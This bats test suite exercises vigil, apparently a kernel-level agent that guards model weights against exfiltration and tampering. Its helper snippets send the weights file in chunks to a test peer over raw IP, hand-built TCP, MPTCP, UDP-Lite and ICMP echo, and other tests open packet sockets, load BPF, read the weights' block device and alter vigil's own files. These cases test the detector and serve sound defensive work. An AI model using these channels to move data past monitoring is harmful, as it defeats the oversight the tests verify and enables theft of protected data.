#!/usr/bin/env bats
# Blind spots the kernel lets vigil close (docs/OPERATIONS.md, "Blind-spot
# controls"): raw IP sockets, whose packets no connect/sendmsg hook sees,
# are refused to tainted processes in enforce mode and reported in both.

load ../lib/harness

setup() { vigil_setup; LOOPDEV=""; DMNAME=""; PING_RANGE=""; }
teardown() {
	vigil_teardown	# the agent first: then nothing holds the disk
	[ -z "${PING_RANGE:-}" ] || echo "$PING_RANGE" > /proc/sys/net/ipv4/ping_group_range
	if [ -n "${LOOPDEV:-}" ]; then
		umount "$T/disk" 2>/dev/null || umount -l "$T/disk" 2>/dev/null || true
		[ -z "${DMNAME:-}" ] || dmsetup remove "$DMNAME" 2>/dev/null || true
		losetup -d "$LOOPDEV" 2>/dev/null || true
	fi
}

# raw_socket FILE: read FILE (or nothing), then try a raw ICMP socket;
# prints ok or the errno name
raw_socket() {
	run in_cg python3 -c '
import errno, socket, sys
if sys.argv[1]:
    open(sys.argv[1], "rb").read()
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    print("ok")
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))' "$1"
}

@test "blind spot: enforce refuses a raw socket to a tainted process, not to others; it is reported" {
	start_agent --mode enforce
	raw_socket ""
	[ "$output" = ok ]
	raw_socket "$W/model.safetensors"
	[ "$output" = EPERM ]
	run alert_wait --timeout 5 rule=weights-raw-socket action=blocked network.protocol=raw
	[ "$status" -eq 0 ]
	[[ "$(alert_get message network.protocol=raw)" == *"was refused a raw ipv4 socket"* ]]
	stop_agent
	[ "$(alert_get kernel.connects_denied kind=agent_stop)" -ge 1 ]
}

@test "blind spot: monitor lets the raw socket be made and says enforce would refuse it" {
	start_agent
	raw_socket "$W/model.safetensors"
	[ "$output" = ok ]
	run alert_wait --timeout 5 rule=weights-raw-socket network.protocol=raw enforce_action=blocked
	[ "$status" -eq 0 ]
	[[ "$(alert_get message network.protocol=raw)" == *"opened a raw ipv4 socket"* ]]
}

# raw_leak PROTO: in monitor mode, the weights sent over a raw IPv4 socket of
# IP protocol PROTO (no port, no connect, no sendmsg hook); the sender is
# alerted for the socket and past the budget
raw_leak() {
	start_agent
	run in_cg python3 -c '
import socket, sys
data = open(sys.argv[1], "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, int(sys.argv[3]))
for i in range(0, len(data), 1400):
    s.sendto(data[i:i + 1400], (sys.argv[2], 0))
print("sent", len(data))' "$W/model.safetensors" "$PEER4" "$1"
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=weights-raw-socket network.protocol=raw enforce_action=blocked
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=weights-egress-budget network.daddr="$PEER4" \
		taint.sources.0.path="$W/model.safetensors" enforce_action=killed
	[ "$status" -eq 0 ]
	stop_agent
}

@test "blind spot: monitor: the weights sent over a raw IP socket are counted on the sender's taint and pass the budget alerted" {
	raw_leak 253	# IP protocol 253: experimental
}

@test "blind spot: monitor: the weights sent over a raw IPPROTO_TCP socket are counted like any raw socket's" {
	raw_leak 6	# TCP segments written by hand: no TCP socket, no send hook
}

# other_proto_leak PROTO WHEN: the weights sent with `sendall`/`sendto` over
# an MPTCP socket (PROTO mptcp; the sink is plain TCP, so the connection
# falls back to TCP on one subflow, which the kernel, not the sender's
# send, feeds) or UDP-Lite, the socket connected before or after the read
# (WHEN before|after)
other_proto_leak() {
	run in_cg python3 -c '
import socket, sys
path, host, port, proto, when = sys.argv[1:6]
def sock():
    if proto == "mptcp":
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE)
    s.connect((host, int(port)))
    return s
s = sock() if when == "before" else None
data = open(path, "rb").read()
s = s or sock()
if proto == "mptcp":
    s.sendall(data)
else:
    for i in range(0, len(data), 1400):
        s.send(data[i:i + 1400])
print("sent", len(data))' "$W/model.safetensors" "$PEER4" "$PORT" "$@"
}

@test "blind spot: enforce: MPTCP connected before the read (no send hook sees its data) delivers nothing, 3 runs; after the read: killed at the budget" {
	[ "$(sysctl -n net.mptcp.enabled 2>/dev/null)" = 1 ] || skip "no MPTCP on this kernel"
	start_sink tcp
	start_agent --mode enforce
	local i
	for i in 1 2 3; do
		other_proto_leak mptcp before
		[ "$status" -eq 137 ]
		run alert_wait --timeout 5 rule=weights-unmetered-egress action=killed \
			process.cmdline~mptcp
		[ "$status" -eq 0 ]
	done
	figure "MPTCP connected before the read: sink bytes, 3 runs" "$(sink_bytes)"
	[ "$(sink_bytes)" -eq 0 ]
	other_proto_leak mptcp after
	[ "$status" -eq 137 ]
	figure "MPTCP connected after the read: sink bytes (budget 1 MiB)" "$(sink_bytes)"
	[ "$(sink_bytes)" -le $((1 << 20)) ]
	stop_agent
	[ "$(alert_get kernel.failed_closed kind=agent_stop)" -ge 1 ]
}

@test "blind spot: monitor: the weights over MPTCP (not metered) are alerted, saying enforce mode kills at that send" {
	[ "$(sysctl -n net.mptcp.enabled 2>/dev/null)" = 1 ] || skip "no MPTCP on this kernel"
	start_sink tcp
	start_agent --mode monitor
	other_proto_leak mptcp before
	[ "$status" -eq 0 ]
	[ "$(sink_bytes)" -eq $((4 << 20)) ]
	run alert_wait --timeout 10 rule=weights-unmetered-egress action=alert enforce_action=killed \
		severity=critical process.cmdline~mptcp taint.sources.0.path="$W/model.safetensors" \
		network.daddr="$PEER4" network.dport="$PORT" message~"MPTCP socket"
	[ "$status" -eq 0 ]
	stop_agent
}

@test "blind spot: enforce: the weights over UDP-Lite are killed at the budget" {
	start_sink udplite
	start_agent --mode enforce
	other_proto_leak udplite after
	[ "$status" -eq 137 ]
	figure "UDP-Lite: sink bytes (budget 1 MiB)" "$(sink_bytes "$PORT" udplite)"
	[ "$(sink_bytes "$PORT" udplite)" -le $((1 << 20)) ]
	run alert_wait --timeout 5 action=killed network.daddr="$PEER4" \
		taint.sources.0.path="$W/model.safetensors"
	[ "$status" -eq 0 ]
	stop_agent	# the records of another protocol obey the schema
}

# icmp_leak MODE: the weights as ICMP echo through a ping socket (not raw:
# never refused), counted on the sender's taint like UDP at egress. Ping
# sockets need the sender's group in ping_group_range (Debian: nobody's),
# set for the test and restored in teardown.
icmp_leak() {
	local counter
	PING_RANGE="$(cat /proc/sys/net/ipv4/ping_group_range)"
	echo "0 0" > /proc/sys/net/ipv4/ping_group_range
	ip netns exec "$NS" python3 "$SCEN/icmp_leak.py" count "$T/icmp.count" "$T/icmp.ready" &
	SINK_PIDS="$SINK_PIDS $!"
	for _ in $(seq 100); do [ -e "$T/icmp.ready" ] && break; sleep 0.05; done
	start_agent --mode "$1"
	run in_cg python3 "$SCEN/icmp_leak.py" send "$W/model.safetensors" "$PEER4"
}

# icmp_count: the counter's total once it stops growing (a slow guest's
# counter lags the sender)
icmp_count() {
	local prev=-1 cur
	for _ in $(seq 40); do
		cur="$(cat "$T/icmp.count" 2>/dev/null || echo 0)"
		[ "$cur" = "$prev" ] && break
		prev="$cur"
		sleep 0.25
	done
	echo "$cur"
}

@test "blind spot: enforce: the weights as ICMP echo from a ping socket are killed at the budget" {
	icmp_leak enforce
	[ "$status" -eq 137 ]
	figure "ICMP echo payload bytes past the budget, enforce" "$(icmp_count)"
	[ "$(icmp_count)" -le $((1 << 20)) ]
	run alert_wait --timeout 5 mode=enforce action=killed network.daddr="$PEER4" \
		taint.sources.0.path="$W/model.safetensors"
	[ "$status" -eq 0 ]
}

@test "blind spot: monitor: the weights as ICMP echo from a ping socket are counted and alerted past the budget" {
	icmp_leak monitor
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=weights-egress-budget network.daddr="$PEER4" \
		taint.sources.0.path="$W/model.safetensors" enforce_action=killed
	[ "$status" -eq 0 ]
	[ "$(icmp_count)" -gt $((1 << 20)) ]
}

# control ARGS...: tests/scenarios/control.py in the test cgroup ($status, $output)
control() {
	run in_cg python3 "$CONTROL" "$@"
}

@test "blind spot: packet and AF_XDP sockets, BPF loads, network and FUSE mounts of untainted processes are reported" {
	require_capability control
	start_agent
	# one process each: one rule on one process is one incident (repeats fold)
	for what in packet xdp bpf mount-nfs mount-fuse fsopen-fuse mount-tmpfs; do
		control "$what"
		[ "$status" -eq 0 ]
		out="$out $output"
	done
	[[ "$out" == *"packet ok"* && "$out" == *"xdp ok"* && "$out" == *"bpf ok"* ]]
	[[ "$out" == *"mount-nfs ENOENT"* && "$out" == *"fsopen-fuse EINVAL"* ]]
	run alert_wait --timeout 5 rule=packet-socket control.kind=packet_socket control.detail=raw \
		control.tainted=false severity=medium action=alert
	[ "$status" -eq 0 ]
	[[ "$(alert_get message control.kind=packet_socket)" == *"tried to open a packet socket (raw)"* ]]
	run alert_wait --timeout 5 rule=packet-socket control.kind=xdp_socket
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=bpf-program-load control.detail=socket_filter
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=network-mount control.detail=nfs4
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=network-mount control.detail=fuse.sshfs
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=network-mount control.detail=fuse
	[ "$status" -eq 0 ]
	# a local filesystem is not a control; nothing here was tainted or killed
	run alert_none control.detail=tmpfs
	[ "$status" -eq 0 ]
	run alert_none rule=weights-bypass-attempt
	[ "$status" -eq 0 ]
	# attempts outside the scope are not this agent's
	python3 "$CONTROL" packet
	stop_agent
	[ "$(grep -c '"kind":"packet_socket"' "$ALERTS")" -eq 1 ]
}

@test "blind spot: enforce kills a tainted process opening a packet socket or loading BPF, before it can use them" {
	require_capability control
	start_agent --mode enforce
	control --read "$W/model.safetensors" packet xdp
	[ "$status" -eq 137 ]
	[[ "$output" != *"packet ok"* || "$output" != *"xdp ok"* ]]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=packet_socket \
		action=killed killed_by=kernel control.tainted=true severity=critical
	[ "$status" -eq 0 ]
	[ "$(alert_get taint.sources.0.path rule=weights-bypass-attempt)" = "$W/model.safetensors" ]
	[[ "$(alert_get message rule=weights-bypass-attempt)" == *"holding data from $W/model.safetensors, tried to open a packet socket (raw) and was killed"* ]]
	control --read "$W/model.safetensors" bpf
	[ "$status" -eq 137 ]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=bpf_load action=killed
	[ "$status" -eq 0 ]
	# untainted: reported, never killed
	control packet
	[ "$status" -eq 0 ]
	[ "$output" = "packet ok" ]
	run alert_wait --timeout 5 rule=packet-socket action=alert
	[ "$status" -eq 0 ]
	stop_agent
	[ "$(alert_get kernel.kills kind=agent_stop)" -ge 2 ]
}

@test "blind spot: monitor lets a tainted process open a packet socket and says enforce would kill it" {
	require_capability control
	start_agent
	control --read "$W/model.safetensors" packet
	[ "$status" -eq 0 ]
	[ "$output" = "packet ok" ]
	control --read "$W/model.safetensors" mount-nfs
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=packet_socket action=alert \
		enforce_action=killed
	[ "$status" -eq 0 ]
	[[ "$(alert_get message control.kind=packet_socket)" == *"; enforce mode would kill it"* ]]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=mount control.detail=nfs4
	[ "$status" -eq 0 ]
	run alert_none rule=packet-socket
	[ "$status" -eq 0 ]
	stop_agent
}

@test "blind spot: a rule on control fields decides (a site flags FUSE mounts by type, excepts a packet tool)" {
	require_capability control
	cat > "$T/site.yaml" <<-'YAML'
	list:
	  - name: packet_socket_tools
	    items: [python3]
	    append: true
	rule:
	  - id: site-fuse
	    condition: evt.type = control and control.kind = mount and control.detail startswith fuse.
	    severity: high
	    message: "%proc.name tried a %control.detail mount (tainted: %proc.tainted)"
	YAML
	start_agent --rules "$T/site.yaml"
	control packet
	control mount-fuse
	control mount-nfs
	run alert_wait --timeout 5 rule=site-fuse severity=high
	[ "$status" -eq 0 ]
	[ "$(alert_get message rule=site-fuse)" = "python3 tried a fuse.sshfs mount (tainted: false)" ]
	run alert_none rule=site-fuse control.detail=nfs4
	[ "$status" -eq 0 ]
	run alert_none rule=packet-socket
	[ "$status" -eq 0 ]
	stop_agent
}

# Kernel modules: only on kernels built with them (this host's 6.18 has
# none, Debian's have; the 6.1 leg runs it)
@test "blind spot: module loads (init_module, finit_module) are reported, the file named" {
	require_capability control
	[ -d /sys/kernel/tracing/events/syscalls/sys_enter_finit_module ] ||
		skip "kernel without loadable modules (no finit_module tracepoint)"
	start_agent
	control init_module
	control finit_module
	run alert_wait --timeout 5 rule=kernel-module-load control.detail=
	[ "$status" -eq 0 ]
	run alert_wait --timeout 5 rule=kernel-module-load "control.detail~vigil_control_"
	[ "$status" -eq 0 ]
	stop_agent
}

# ---- opens of kernel-bypass devices and of the weights' disk, changes to
# vigil's files and pins (bpf/lib/guard.bpf.h) --------------------------------

# weights_disk: an ext4 on a loop device over $T/disk.img, mounted on
# $T/disk, with protected weights in it ($LOOPDEV; teardown detaches it)
weights_disk() {
	command -v losetup >/dev/null && command -v mkfs.ext4 >/dev/null ||
		skip "losetup and mkfs.ext4 needed"
	truncate -s 32M "$T/disk.img"
	mkfs.ext4 -q -F "$T/disk.img"
	# the 6.1 guest's initramfs has no loop module
	LOOPDEV="$(losetup -f --show "$T/disk.img" 2>/dev/null)" ||
		{ LOOPDEV=""; skip "no loop device on this kernel (loop module)"; }
	mkdir -p "$T/disk"
	mount "$LOOPDEV" "$T/disk"
	head -c $((1 << 20)) /dev/urandom > "$T/disk/model.bin"
}

# weights_dm: as weights_disk, but the ext4 is on a device-mapper linear
# volume over the loop device (the shape of LVM and dm-crypt): $DMNAME,
# /dev/mapper/$DMNAME; teardown removes it. Skips where the kernel has no
# device-mapper (this host's kernel; the guests load dm_mod).
weights_dm() {
	command -v losetup >/dev/null && command -v mkfs.ext4 >/dev/null &&
		command -v dmsetup >/dev/null || skip "losetup, mkfs.ext4 and dmsetup needed"
	[ -e /dev/mapper/control ] || [ -e /sys/module/dm_mod ] ||
		skip "no device-mapper on this kernel (dm_mod)"
	truncate -s 32M "$T/disk.img"
	LOOPDEV="$(losetup -f --show "$T/disk.img" 2>/dev/null)" ||
		{ LOOPDEV=""; skip "no loop device on this kernel (loop module)"; }
	DMNAME="vigil-t$N"
	# no udev in the guests: libdevmapper makes the /dev/mapper node itself
	echo "0 $(blockdev --getsz "$LOOPDEV") linear $LOOPDEV 0" |
		DM_DISABLE_UDEV=1 dmsetup create "$DMNAME" ||
		{ DMNAME=""; skip "dmsetup create failed: no device-mapper here"; }
	mkfs.ext4 -q -F "/dev/mapper/$DMNAME"
	mkdir -p "$T/disk"
	mount "/dev/mapper/$DMNAME" "$T/disk"
	head -c $((1 << 20)) /dev/urandom > "$T/disk/model.bin"
}

# open_dev DEV [FILE]: in the test cgroup, read FILE (or nothing), then open
# DEV read-only and read a block of it; prints "open ok" or the errno name
open_dev() {
	run in_cg python3 -c '
import errno, sys
if sys.argv[2]:
    open(sys.argv[2], "rb").read()
try:
    with open(sys.argv[1], "rb", buffering=0) as f:
        f.read(4096)
    print("open ok")
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))' "$1" "${2:-}"
}

@test "blind spot: opening the block device under the weights is reported; other disks, partitions of none, are not" {
	require_capability shm
	weights_disk
	start_agent --protect "$T/disk/**"
	open_dev "$LOOPDEV"
	[ "$output" = "open ok" ]
	run alert_wait --timeout 5 rule=weights-disk-read control.kind=weights_disk \
		control.detail="$(basename "$LOOPDEV")" control.tainted=false severity=high action=alert
	[ "$status" -eq 0 ]
	[[ "$(alert_get message rule=weights-disk-read)" == *"tried to open the disk holding the weights ($(basename "$LOOPDEV"))"* ]]
	# a char device that is no bypass device, the weights file itself: nothing
	open_dev /dev/zero
	open_dev "$T/disk/model.bin"
	stop_agent
	[ "$(grep -c '"kind":"weights_disk"' "$ALERTS")" -eq 1 ]
	run alert_none control.kind=bypass_device
	[ "$status" -eq 0 ]
}

@test "blind spot: enforce kills a tainted process opening the weights' disk; an untainted one is reported, not killed" {
	require_capability shm
	weights_disk
	start_agent --mode enforce --protect "$T/disk/**"
	open_dev "$LOOPDEV" "$T/disk/model.bin"
	[ "$status" -eq 137 ]
	[ -z "$output" ]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=weights_disk \
		action=killed killed_by=kernel control.tainted=true
	[ "$status" -eq 0 ]
	open_dev "$LOOPDEV"
	[ "$output" = "open ok" ]
	run alert_wait --timeout 5 rule=weights-disk-read action=alert
	[ "$status" -eq 0 ]
	stop_agent
}

@test "blind spot: under a device-mapper volume (LVM's shape) the volume and the disk beneath it are both the weights' disk" {
	require_capability shm
	weights_dm
	local dm
	dm="$(basename "$(readlink -f "/dev/mapper/$DMNAME")")"	# dm-N
	start_agent --mode enforce --protect "$T/disk/**"
	# untainted: each open reported with the device's name, neither refused
	open_dev "$LOOPDEV"
	[ "$output" = "open ok" ]
	run alert_wait --timeout 5 rule=weights-disk-read control.kind=weights_disk \
		control.detail="$(basename "$LOOPDEV")" control.tainted=false
	[ "$status" -eq 0 ]
	open_dev "/dev/mapper/$DMNAME"
	[ "$output" = "open ok" ]
	run alert_wait --timeout 5 rule=weights-disk-read control.kind=weights_disk \
		control.detail="$dm" control.tainted=false
	[ "$status" -eq 0 ]
	# tainted: killed opening the disk beneath the volume
	open_dev "$LOOPDEV" "$T/disk/model.bin"
	[ "$status" -eq 137 ]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=weights_disk \
		control.detail="$(basename "$LOOPDEV")" action=killed control.tainted=true
	[ "$status" -eq 0 ]
	stop_agent
}

# A real uverbs or vfio device needs the hardware (an open of a node with
# major 231 and no driver fails with ENXIO, and only opens that succeed are
# seen): --bypass-device gives a node the same treatment, here a copy of
# /dev/full named like a verbs device.
@test "blind spot: a kernel-bypass device open is reported (monitor), and kills a tainted opener (enforce)" {
	require_capability shm
	mknod "$T/uverbs0" c 1 7
	start_agent --bypass-device "$T/uverbs0"
	open_dev "$T/uverbs0"
	[ "$output" = "open ok" ]
	run alert_wait --timeout 5 rule=bypass-device-open control.kind=bypass_device \
		control.detail=uverbs0 severity=high action=alert
	[ "$status" -eq 0 ]
	open_dev "$T/uverbs0" "$W/model.safetensors"
	[ "$output" = "open ok" ]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=bypass_device \
		enforce_action=killed
	[ "$status" -eq 0 ]
	stop_agent
	: > "$ALERTS"
	start_agent --mode enforce --bypass-device "$T/uverbs0"
	open_dev "$T/uverbs0" "$W/model.safetensors"
	[ "$status" -eq 137 ]
	run alert_wait --timeout 5 rule=weights-bypass-attempt control.kind=bypass_device action=killed
	[ "$status" -eq 0 ]
	stop_agent
}

@test "blind spot: --bypass-device refuses what is not a character device" {
	run "$VIGIL" run --bypass-device "$W/model.safetensors" --cgroup "$CG"
	[ "$status" -eq 2 ]
	[[ "$output" == *"bypass-device"*"not a character device"* ]]
	run "$VIGIL" run --bypass-device relative/path --cgroup "$CG"
	[ "$status" -eq 2 ]
}

@test "tamper: writing, replacing or removing vigil's rules or binary is reported, whoever does it" {
	require_capability selfwatch
	cp "$VIGIL" "$T/vigil"
	printf 'rule: []\n' > "$T/site.yaml"
	VIGIL="$T/vigil" start_agent --rules "$T/site.yaml"
	rules="$(realpath "$T/site.yaml")"
	# outside the agent's scope: tampering is anyone's
	printf '# x\n' >> "$T/site.yaml"
	run alert_wait --timeout 5 rule=vigil-files-changed control.kind=config_write \
		control.detail="$rules" severity=high
	[ "$status" -eq 0 ]
	[[ "$(alert_get message rule=vigil-files-changed)" == *"tried to change vigil's files (write $rules)"* ]]
	printf 'rule: []\n' > "$T/new.yaml"
	mv "$T/new.yaml" "$T/site.yaml"
	run alert_wait --timeout 5 rule=vigil-files-changed "message~rename $rules"
	[ "$status" -eq 0 ]
	# the file that replaced it is watched from the agent's next inode check
	# (each second; later under load): a write each half second until seen
	found=1
	for _ in $(seq 20); do
		sleep 0.5
		sh -c 'printf "# y\n" >> "$1"' sh "$T/site.yaml"
		run alert_wait --timeout 0.5 rule=vigil-files-changed process.comm=sh "message~write $rules"
		[ "$status" -eq 0 ] && { found=0; break; }
	done
	[ "$found" -eq 0 ]
	# truncate(2) by path opens nothing
	python3 -c 'import os, sys; os.truncate(sys.argv[1], 3)' "$T/site.yaml"
	run alert_wait --timeout 5 rule=vigil-files-changed process.comm=python3 "message~truncate $rules"
	[ "$status" -eq 0 ]
	cp "$T/vigil" "$T/vigil.new"
	mv "$T/vigil.new" "$T/vigil"	# a binary swapped under the running agent
	run alert_wait --timeout 5 rule=vigil-files-changed control.detail="$(realpath "$T/vigil")"
	[ "$status" -eq 0 ]
	# reads are not changes
	cat "$T/site.yaml" > /dev/null
	stop_agent
	# and the old file's inode number, free for reuse, is no longer the
	# rules': every change reported is one this test made (bash, mv, sh,
	# python3; one mv may be reported for both its names)
	comms="$(grep '"control":{"kind":"config_write"' "$ALERTS" |
		sed -n 's/.*"process":{"pid":[0-9]*,"ppid":[0-9]*,"comm":"\([^"]*\)".*/\1/p' | sort -u | tr '\n' ' ')"
	[ "$comms" = "bash mv python3 sh " ]
}

@test "tamper: removing vigil's pins (by path, rm -r through directory fds) is reported" {
	require_capability selfwatch
	pin_setup
	start_agent --pin --pin-dir "$PIN_DIR"
	rm "$PIN_DIR/maps/vg_tamper_seen"
	run alert_wait --timeout 5 rule=vigil-pins-removed control.kind=pin_unlink \
		control.detail="$PIN_DIR/maps/vg_tamper_seen" severity=critical
	[ "$status" -eq 0 ]
	[[ "$(alert_get message rule=vigil-pins-removed)" == *"tried to remove vigil's pinned enforcement (unlink $PIN_DIR/maps/vg_tamper_seen)"* ]]
	link="$(ls "$PIN_DIR/links" | head -1)"
	(cd "$PIN_DIR/links" && rm "$link")	# relative to the cwd
	run alert_wait --timeout 5 rule=vigil-pins-removed control.detail="$PIN_DIR/links/$link"
	[ "$status" -eq 0 ]
	mv "$PIN_DIR/maps/vg_dns" "$BPFFS/elsewhere"
	run alert_wait --timeout 5 rule=vigil-pins-removed "message~rename $PIN_DIR/maps/vg_dns"
	[ "$status" -eq 0 ]
	stop_agent
}
